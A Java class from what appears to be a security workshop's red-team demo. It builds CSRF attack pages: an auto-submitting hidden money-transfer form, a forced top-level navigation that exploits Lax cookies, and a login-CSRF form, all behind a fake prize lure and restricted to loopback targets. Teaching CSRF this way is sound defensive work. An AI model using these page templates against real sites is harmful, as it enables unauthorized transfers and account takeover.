package workshop.attacks;

import java.net.URI;

/** Red team: the attacker's web pages for cross-site request forgery (ATTACK DEMO, loopback only). */
public final class CsrfAttack {

    private CsrfAttack() {
    }

    /**
     * A14 · an HTML page that, once opened, POSTs the form {@code to}, {@code amount} to {@code transferUrl} by itself
     * (no click needed). The browser adds the victim's cookies.
     */
    public static String autoPostingForm(URI transferUrl, String to, long amount) {
        return page("<form id=\"f\" method=\"POST\" action=\"" + attr(Loopback.require(transferUrl).toString()) + "\">"
                + hidden("to", to) + hidden("amount", Long.toString(amount)) + "</form>"
                + "<script>document.getElementById('f').submit();</script>");
    }

    /** A15 · an HTML page that, once opened, navigates the whole tab (top level) to {@code target} by GET. */
    public static String topLevelNavigation(URI target) {
        // A top-level navigation, unlike an <img> or a fetch, is "Lax-allowed": the Lax cookie goes along.
        return page("<script>window.location.href = \"" + Loopback.require(target).toASCIIString() + "\";</script>");
    }

    /**
     * A15 · an HTML page that, once opened, signs the visitor's browser in to the bank as {@code user} (the
     * attacker's own account): login CSRF.
     */
    public static String loginForm(URI signInUrl, String user, String password) {
        return page("<form id=\"f\" method=\"POST\" action=\"" + attr(Loopback.require(signInUrl).toString()) + "\">"
                + hidden("user", user) + hidden("password", password) + "</form>"
                + "<script>document.getElementById('f').submit();</script>");
    }

    private static String page(String body) {
        return "<!doctype html><html><head><meta charset=\"utf-8\"><title>You won a prize!</title></head><body>"
                + "<p>Loading your prize…</p>" + body + "</body></html>";
    }

    private static String hidden(String name, String value) {
        return "<input type=\"hidden\" name=\"" + attr(name) + "\" value=\"" + attr(value) + "\">";
    }

    private static String attr(String s) {
        return s.replace("&", "&amp;").replace("\"", "&quot;").replace("<", "&lt;");
    }
}
